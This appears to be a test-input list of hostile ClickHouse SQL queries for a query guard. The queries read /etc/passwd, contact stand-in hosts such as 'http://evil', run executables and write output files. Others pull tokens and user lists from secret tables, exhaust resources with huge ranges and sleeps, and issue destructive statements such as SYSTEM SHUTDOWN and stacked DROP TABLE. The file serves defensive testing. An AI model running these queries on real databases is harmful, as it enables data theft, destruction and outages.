# hostile in ClickHouse
SELECT * FROM file('/etc/passwd')
SELECT * FROM file('x.csv', 'CSV', 'a String')
SELECT file('/etc/passwd')
SELECT * FROM url('http://evil', CSV, 'a String')
SELECT * FROM s3('https://x/y.csv')
SELECT * FROM s3Cluster('c', 'https://x/y.csv')
SELECT * FROM gcs('x')
SELECT * FROM hdfs('hdfs://x')
SELECT * FROM azureBlobStorage('x')
SELECT * FROM remote('host', db, t)
SELECT * FROM remoteSecure('host', db, t)
SELECT * FROM cluster('c', db.t)
SELECT * FROM clusterAllReplicas('c', system.one)
SELECT * FROM mysql('h:3306', 'd', 't', 'u', 'p')
SELECT * FROM postgresql('h:5432', 'd', 't', 'u', 'p')
SELECT * FROM mongodb('h', 'd', 't', 'u', 'p', 'x')
SELECT * FROM redis('h', 'k', 'x')
SELECT * FROM sqlite('x.db', 't')
SELECT * FROM jdbc('x', 't')
SELECT * FROM odbc('x', 'd', 't')
SELECT * FROM executable('id', TSV, 'a String')
SELECT * FROM input('a String')
SELECT * FROM merge('default', '.*')
SELECT * FROM dictionary('d')
SELECT * FROM view(SELECT 1)
SELECT * FROM generateRandom('a UInt8')
SELECT * FROM fuzzQuery('SELECT 1')
SELECT * FROM iceberg('x')
SELECT * FROM deltaLake('x')
SELECT * FROM python('x')
SELECT * FROM mergeTreeIndex(default, orders)
SELECT * FROM loop(system.one)
SELECT * FROM viewExplain('EXPLAIN', '', (SELECT 1))
SELECT * FROM system.tables
SELECT * FROM system.users
SELECT * FROM system.query_log
SELECT * FROM system.numbers
SELECT * FROM system.one
SELECT * FROM INFORMATION_SCHEMA.COLUMNS
SELECT dictGet('d', 'a', 1)
SELECT dictGetString('d', 'a', 1)
SELECT dictHas('d', 1)
SELECT joinGet('j', 'a', 1)
SELECT sleep(3)
SELECT sleepEachRow(1) FROM orders
SELECT hostName()
SELECT version()
SELECT currentUser()
SELECT getSetting('max_threads')
SELECT getMacro('shard')
SELECT getServerPort('tcp_port')
SELECT filesystemAvailable()
SELECT uptime()
SELECT serverUUID()
SELECT showCertificate()
SELECT hasColumnInTable('default', 'secrets', 'a')
SELECT throwIf(1)
SELECT generateSerialID('x')
SELECT evalMLMethod(1, 2) FROM orders
SELECT addressToSymbol(1)
SELECT * FROM numbers(1000000000000)
SELECT range(10000000000)
SELECT arrayWithConstant(10000000000, 1)
SELECT randomString(10000000000)
SELECT repeat('x', 10000000000)
SELECT * FROM orders SETTINGS max_execution_time = 0
SELECT * FROM (SELECT * FROM orders SETTINGS readonly = 0)
SELECT * FROM orders INTO OUTFILE '/tmp/x' FORMAT CSV
SELECT * FROM orders INTO OUTFILE '/tmp/x' TRUNCATE
SELECT * APPLY(sleep) FROM orders
SELECT arrayMap(x -> sleep(x), [1])
SELECT arrayJoin([sleep(1)])
SELECT sleepIf(1, 1)
SELECT hostNameIf(1)
SYSTEM SHUTDOWN
SYSTEM RELOAD CONFIG
KILL QUERY WHERE 1
OPTIMIZE TABLE orders FINAL
ATTACH TABLE x
DETACH TABLE orders
EXCHANGE TABLES orders AND customers
RENAME TABLE orders TO x
CREATE DICTIONARY d (a UInt8) PRIMARY KEY a
ALTER TABLE orders DELETE WHERE 1
INSERT INTO FUNCTION file('x') SELECT 1
WITH file('/etc/passwd') AS f SELECT f
SELECT {x:String}
SELECT * FROM `/etc/passwd`
SELECT * FROM orders WHERE id IN system.numbers
SELECT * FROM orders WHERE id IN secrets
SELECT id FROM orders ARRAY JOIN [sleep(1)] AS x
SELECT * FROM orders GLOBAL IN (SELECT * FROM system.one)
BACKUP TABLE orders TO Disk('x', 'y')
SELECT aiGenerate('x', 'y')
SELECT * FROM s3(decrypt('x', 'y', 'z'))
SELECT catboostEvaluate('/x', 1)
SELECT initialQueryID()
SELECT tcpPort()
SELECT regionToName(1)
SELECT globalVariable('version')
SELECT zookeeperSessionUptime()
SELECT * FROM generateSeries(1, 2) WHERE 1 IN system.users
SELECT quantile(sleep(1))(total) FROM orders
SELECT * FROM orders ORDER BY sleep(1) WITH FILL
SELECT * FROM orders LIMIT 1 BY sleep(1)
# written after the lists, and counted when they first ran (docs/guard.md)
SELECT * FROM file('/etc/passwd', 'LineAsString')
SELECT * FROM url('http://evil/x', 'CSV', 'a String')
SELECT * FROM s3('https://bucket/x', 'CSV')
SELECT * FROM s3Cluster('c', 'x')
SELECT * FROM hudi('x')
SELECT * FROM remote('evil:9000', 'db', 't')
SELECT * FROM remoteSecure('evil', db.t)
SELECT * FROM mysql('host', 'db', 't', 'u', 'p')
SELECT * FROM postgresql('host', 'db', 't', 'u', 'p')
SELECT * FROM mongodb('host', 'db', 'c', 'u', 'p', 's')
SELECT * FROM redis('host', 'k', 's')
SELECT * FROM sqlite('/tmp/x', 't')
SELECT * FROM odbc('dsn', 'db', 't')
SELECT * FROM jdbc('dsn', 't')
SELECT * FROM executable('cat', 'TSV', 'a String')
SELECT * FROM merge('system', '.*')
SELECT * FROM merge('.*')
SELECT * FROM loop(orders)
SELECT * FROM view(SELECT * FROM system.users)
SELECT * FROM viewIfPermitted(SELECT 1 ELSE null('a Int8'))
SELECT * FROM fuzzJSON('x')
SELECT * FROM generateRandom('a Array(Int8)', 1, 10, 2) LIMIT 1000000000000
SELECT * FROM mergeTreeIndex('default', 'orders')
SELECT * FROM system.processes
SELECT * FROM information_schema.tables
SELECT sleepEachRow(1) FROM numbers(10)
SELECT * FROM orders SETTINGS readonly = 0
SELECT * FROM (SELECT 1 SETTINGS max_threads = 1)
SELECT * FROM orders INTO OUTFILE '/tmp/x'
SELECT * FROM orders INTO OUTFILE '/tmp/x' TRUNCATE FORMAT CSV
SELECT * FROM orders FORMAT CSV INTO OUTFILE 'x'
SELECT currentUser(), user()
SELECT currentDatabase()
SELECT version(), uptime(), hostName(), fqdn(), tcpPort()
SELECT getSetting('readonly')
SELECT getMacro('x'), getServerPort('x'), serverUUID()
SELECT getOSKernelVersion(), displayName(), buildId()
SELECT dictGet('default.secrets', 'password', 1)
SELECT joinGet('default.j', 'v', 1)
SELECT hasColumnInTable('default', 'orders', 'x')
SELECT addressToLine(1), addressToSymbol(1), demangle('x')
SELECT trap('x')
SELECT initializeAggregation('sumState', 1), evalMLMethod('m', 1)
SELECT modelEvaluate('m', 1)
SELECT filesystemAvailable(), filesystemCapacity()
SELECT queryID(), initialQueryID(), connectionId()
SELECT transactionID()
SELECT currentProfiles(), enabledRoles()
SELECT partitionId(1)
SELECT range(1000000000)
SELECT arrayMap(x -> sleep(1), [1])
SELECT repeat('a', 1000000000)
SELECT randomString(1000000000)
SELECT arrayWithConstant(1000000000, 1)
INSERT INTO orders (id) VALUES (1)
INSERT INTO FUNCTION file('x') SELECT * FROM orders
ALTER TABLE orders UPDATE total = 0 WHERE 1
DELETE FROM orders WHERE 1
DROP TABLE orders
TRUNCATE TABLE orders
OPTIMIZE TABLE orders
CREATE TABLE x ENGINE = Memory AS SELECT * FROM orders
CREATE TEMPORARY TABLE x (a Int8)
SYSTEM FLUSH LOGS
SET max_threads = 1
USE system
SHOW TABLES
DESCRIBE TABLE orders
EXPLAIN SELECT 1
EXISTS TABLE orders
GRANT ALL ON *.* TO x
SELECT 1; DROP TABLE orders
SELECT 1 FORMAT Null; SELECT 2
WITH x AS (SELECT 1) INSERT INTO orders SELECT * FROM x
SELECT * FROM otherdb.orders
SELECT * FROM secret
SELECT _path, _file FROM orders
SELECT * FROM timeSeriesData('x')
SELECT * FROM arrowFlight('h', 'd')
SELECT * FROM ytsaurus('x')
SELECT * FROM prometheusQuery('x')
SELECT * FROM fileCluster('c', 'x')
SELECT * FROM urlCluster('c', 'x')
SELECT * FROM `file`('/etc/passwd')
SELECT * FROM FILE('/etc/passwd')
SELECT {p:String}
SELECT * FROM {t:Identifier}
WATCH v
# by somebody who has read docs/guard.md
SELECT * FROM url('http://evil', 'CSV')
SELECT * FROM s3('http://evil', 'CSV')
SELECT * FROM remote('evil', 'db', 't')
SELECT * FROM mysql('evil:3306', 'd', 't', 'u', 'p')
SELECT * FROM executable('x.sh', 'TSV', 'a String')
SELECT * FROM cluster('c', default.secrets)
SELECT * FROM generateRandom('a UInt64')
SELECT * FROM viewIfPermitted(SELECT * FROM secrets ELSE null('a String'))
SELECT * FROM view(SELECT * FROM secrets)
SELECT * FROM loop(secrets)
SELECT hostName(), serverUUID()
SELECT * FROM (SELECT * FROM orders SETTINGS max_execution_time = 0)
SELECT currentDatabase(), currentUser()
SELECT catboostEvaluate('x', 1)
SELECT hasColumnInTable('default', 'secrets', 'token')
SELECT id IN (secrets) FROM orders
SELECT in(id, secrets) FROM orders
SELECT arrayMap(x -> (SELECT token FROM secrets LIMIT 1), [1])
SELECT * FROM orders ARRAY JOIN (SELECT groupArray(token) FROM secrets) AS a
SELECT * FROM orders PREWHERE id IN (SELECT id FROM secrets)
SELECT * FROM orders LIMIT 1 BY (SELECT token FROM secrets)
WITH (SELECT token FROM secrets) AS t SELECT t
SELECT id FROM orders FINAL, secrets FINAL
SELECT * FROM orders SAMPLE 0.1 UNION ALL SELECT * FROM secrets
SELECT evalMLMethod(1)
SELECT addressToLine(1), demangle('x'), trap('x')
SELECT getMacro('x'), getServerPort('tcp_port')
SELECT logTrace('x')
SELECT meiliMatch('x')
SELECT initializeAggregation('sum', 1), finalizeAggregation(x) FROM secrets
SELECT arrayResize([1], 10000000000)
SELECT * FROM zeros(100000000000)
SELECT * FROM values('a String', (SELECT token FROM secrets))
SELECT * FROM format('JSONEachRow', (SELECT token FROM secrets))
SELECT * FROM azureBlobStorage('x', 'y', 'z')
SELECT * FROM jdbc('x', 'y', 'z')
SELECT * FROM mergeTreeIndex('default', 'secrets')
SELECT * FROM prometheusQuery('x', 'y', now())
DESCRIBE url('http://evil')
SELECT * FROM `.inner.v`
EXISTS TABLE secrets
SELECT nonexistent.secrets.token FROM orders
SELECT * EXCEPT (id) FROM secrets
SELECT COLUMNS('token') FROM secrets
SELECT lowCardinalityIndices('x'), blockNumber(), shardNum(), queryID()
SELECT _file, _path FROM orders
SELECT in(id, customers) FROM orders
SELECT count() FROM orders WHERE globalNotIn(id, secrets)
# sizes, samples and recursions
SELECT range(toUInt64(pow(10, 12)))
# a fourth round, written before the lists were read again
SELECT * FROM url('http://127.0.0.1', CSV, 'a String')
SELECT * FROM `system`.`tables`
SELECT * FROM remote('127.0.0.1', system.users)
SELECT * FROM executable('x.sh', TSV, 'a String')
SELECT id FROM orders INTO OUTFILE '/tmp/x' FORMAT CSV
SELECT dictGet('d', 'a', id) FROM orders
SELECT catboostEvaluate('/m', id) FROM orders
SELECT sleepEachRow(3) FROM orders
SELECT getSetting('readonly'), hostName(), currentUser() FROM orders
SELECT * FROM cluster('x', system.one)
SELECT * FROM numbers(1000000000000000) LIMIT 1 OFFSET 999999999999
SELECT range(1000000000) FROM orders
SELECT arrayWithConstant(1000000000, 'x') FROM orders
SELECT repeat('x', 10000000000) FROM orders
SELECT * FROM generateRandom('a String', 1, 1000000, 3)
SELECT * FROM input('a String') FORMAT CSV
SELECT * FROM orders WHERE id IN (SELECT number FROM system.numbers_mt)
SELECT * FROM values('a String', (file('/etc/passwd')))
SELECT joinGet('j', 'v', id) FROM orders
SELECT CAST(id AS AggregateFunction(sum, Int32)) FROM orders
SELECT initializeAggregation('sumState', id), runningAccumulate(sumState(id)) FROM orders PARALLEL WITH SELECT 1
SELECT * FROM null('a Int8') UNION ALL SELECT * FROM mongodb('h', 'd', 'c', 'u', 'p', 'a Int8')
SELECT * FROM orders FORMAT Null; SYSTEM SHUTDOWN
WITH (SELECT groupArray(name) FROM system.users) AS u SELECT u FROM orders
SELECT ai_complete('x'), aiGenerateContent('x')
SELECT CAST('x', 'AggregateFunction(groupArray, Int64)') FROM orders
SELECT CAST(id, concat('Aggregate', 'Function(sum, Int32)')) FROM orders
SELECT accurateCast('x', 'AggregateFunction(sum, Int32)')
SELECT 'x'::Array(AggregateFunction(sum, Int32))
SELECT * FROM remote('127.0.0.1', default, secret)
SELECT * FROM loop(system.users) LIMIT 5
SELECT * FROM mergeTreeIndex(default, secret)
SELECT * FROM values('a String', (SELECT name FROM system.users LIMIT 1))
SELECT * FROM generateRandom('a Array(Array(String))', 1, 1000000, 1000000) LIMIT 1000000000
SELECT * FROM viewIfPermitted(SELECT * FROM system.users ELSE null('name String'))
SELECT dictGet('default.d', 'x', toUInt64(1)), joinGet(default.j, 'v', 1)
SELECT id FROM orders INTO OUTFILE '/tmp/x' FORMAT TSV
SELECT CAST('a' AS AggregateFunction(any, Dynamic)), catboostEvaluate('/tmp/m', 1)
SELECT * FROM orders SETTINGS additional_table_filters = {'default.orders': '1'}
# a fifth round, written before the lists were read; then rows of constants and recursions
SELECT * FROM url('http://127.0.0.1/', CSV, 'a String')
SELECT * FROM urlCluster('c', 'http://127.0.0.1/', CSV, 'a String')
SELECT * FROM merge('default', '^va')
SELECT * FROM viewIfPermitted(SELECT token FROM vault ELSE null('token String'))
SELECT * FROM view(SELECT token FROM vault)
SELECT * FROM loop(vault)
SELECT * FROM mergeTreeIndex('default', 'vault')
SELECT hasColumnInTable('default', 'vault', 'token')
SELECT * APPLY(x -> file(x)) FROM customers
SELECT COLUMNS('id') APPLY(x -> sleepEachRow(3)) FROM orders
SELECT arrayMap(x -> sleep(1), [1, 2])
SELECT 'a' IN vault
SELECT in('a', vault)
SELECT id FROM orders WHERE id GLOBAL IN default.vault
WITH (SELECT max(token) FROM vault) AS t SELECT t
SELECT id FROM orders SETTINGS max_execution_time = 0, readonly = 0
SELECT id FROM (SELECT id FROM orders SETTINGS max_rows_to_read = 0)
SELECT count() FROM zeros_mt(100000000000)
SELECT arrayJoin(range(1000000000000))
SELECT randomPrintableASCII(10000000000)
SELECT tuple(*) FROM vault
SELECT dictGetOrDefault('d', 'x', toUInt64(1), '')
SELECT initializeAggregation('nothingUInt64State', CAST('x', 'AggregateFunction(sum, UInt64)'))
SELECT reverseDNSQuery('127.0.0.1')
SELECT addressToLine(1), demangle('x')
SELECT getMacro('shard'), getServerPort('tcp_port')
SELECT * FROM (EXPLAIN SELECT 1)
SELECT token FROM orders ARRAY JOIN (SELECT groupArray(token) FROM vault) AS token
SELECT _part, _block_number FROM orders
SELECT throwIf(total > 1, 'x') FROM orders
SELECT count() FROM (SELECT number AS n FROM numbers(1) ORDER BY n WITH FILL FROM 0 TO 1000000000000)
SELECT count() FROM (SELECT created_at FROM orders ORDER BY created_at WITH FILL FROM toDateTime('1970-01-01') TO toDateTime('2100-01-01') STEP 1)
SELECT length(timeSlots(toDateTime('2000-01-01'), toUInt32(4294967295), 1))
# a sixth round
SELECT count() FROM (SELECT number AS n FROM numbers(2) ORDER BY n WITH FILL TO 100000000000 STEP 1)
SELECT * FROM numbers(10) WHERE sleepEachRow(1) = 0
SELECT * EXCEPT(name) REPLACE(file('/etc/passwd') AS id) FROM customers
SELECT dictGet('default.d', 'v', 1)
SELECT generateSeries FROM generateSeries(0, 1000000000000)
SELECT * FROM postgresql('127.0.0.1:5432', 'db', 't', 'u', 'p')
SELECT getSetting('max_threads'), hostName()
